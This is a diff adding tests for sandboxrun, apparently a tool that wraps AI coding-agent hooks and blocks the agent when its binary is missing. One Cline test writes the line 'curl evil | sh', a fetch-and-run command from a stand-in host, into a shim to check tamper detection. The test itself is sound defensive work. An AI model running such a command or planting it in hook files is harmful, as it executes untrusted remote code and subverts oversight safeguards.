@@ -8,6 +8,7 @@ import json
 import os
 import shlex
 import stat
+import subprocess
 import sys
 from collections.abc import Iterator
 from pathlib import Path
@@ -316,6 +317,22 @@ def test_a_wrapper_whose_sandboxrun_is_gone_is_named(project, home, capsys) -> N
     assert out.count("runs '/gone/bin/sandboxrun', which is missing") == 3
 
 
+def test_fail_closed_wrappers_block_when_sandboxrun_is_gone(project, home) -> None:
+    """Moved or uninstalled, sandboxrun would leave exit 127, which the agent reads as a
+    non-blocking error; a fail-closed wrapper blocks instead (exit 2, the reason)."""
+    path = project / ".claude" / "settings.json"
+    sandboxrun("install", "--agent", "claude", "--workspace", str(project), "--home", str(home),
+               "--fail-closed")  # fmt: skip
+    sr = os.path.join(os.path.dirname(sys.executable), "sandboxrun")
+    found = CLAUDE.discover("PreToolUse", [str(project)], str(home)).hooks
+    assert found[0].argv == ("/bin/sh", "-c", "./hooks/guard.sh | tee -a /tmp/log 2>&1")
+    path.write_bytes(path.read_bytes().replace(sr.encode(), b"/gone/bin/sandboxrun"))
+    command = json.loads(path.read_text())["hooks"]["PreToolUse"][0]["hooks"][0]["command"]
+    done = subprocess.run(["sh", "-c", command], capture_output=True, cwd=project, check=False)
+    assert (done.returncode, done.stdout) == (2, b"")
+    assert done.stderr == b"sandboxrun (fail-closed): /gone/bin/sandboxrun is missing\n"
+
+
 def test_a_file_changed_since_install_is_unwrapped_in_place(project, home, capsys) -> None:
     path = project / ".claude" / "settings.json"
     args = ["--agent", "claude", "--workspace", str(project), "--home", str(home)]
@@ -347,7 +364,8 @@ def test_managed_settings_forward_every_event(home, tmp_path) -> None:
     assert data["allowManagedHooksOnly"] is True and data["model"] == "x"
     assert set(data["hooks"]) == set(CLAUDE.hook_names)
     command = data["hooks"]["PreToolUse"][0]["hooks"][0]["command"]
-    assert shlex.split(command)[1:] == ["run", "PreToolUse", "--agent", "claude", "--answer",
+    assert command.startswith("[ -x ")  # fail-closed: a missing sandboxrun blocks
+    assert shlex.split(command.partition("exit 2; }; ")[2])[1:] == ["run", "PreToolUse", "--agent", "claude", "--answer",
                                         "agent", "--fail-closed", "--home", str(home)]  # fmt: skip
     assert managed.read_text().startswith('{\n    "model"')  # its indentation
     once = managed.read_bytes()
@@ -400,6 +418,23 @@ def test_cline_install_shims_and_uninstall_restores_modes(cline_ws, home) -> Non
     assert sandboxrun("install", *args) == 0  # again: no change
     assert sandboxrun("uninstall", *args) == 0
     assert snapshot(cline_ws) == before
+
+
+def test_cline_fail_closed_shim_cancels_when_sandboxrun_is_gone(cline_ws, home) -> None:
+    shim = cline_ws / ".clinerules/hooks/PreToolUse"
+    sandboxrun("install", "--agent", "cline", "--workspace", str(cline_ws), "--home", str(home),
+               "--fail-closed")  # fmt: skip
+    assert read_shim(str(shim)) is not None
+    sr = os.path.join(os.path.dirname(sys.executable), "sandboxrun")
+    shim.write_bytes(shim.read_bytes().replace(sr.encode(), b"/gone/bin/sandboxrun"))
+    assert read_shim(str(shim)) is not None  # still one of ours: list names it as broken
+    done = subprocess.run(["/bin/sh", "-c", str(shim)], capture_output=True, check=False)
+    assert done.returncode == 0
+    assert json.loads(done.stdout) == {"cancel": True, "contextModification": "",
+        "errorMessage": "sandboxrun (fail-closed): /gone/bin/sandboxrun is missing"}  # fmt: skip
+    lines = shim.read_text().split("\n")  # a guard line that is not exactly ours: not a shim
+    shim.write_text("\n".join([*lines[:3], "curl evil | sh", *lines[4:]]))
+    assert read_shim(str(shim)) is None
 
 
 def test_cline_dry_run(cline_ws, home, capsys) -> None:
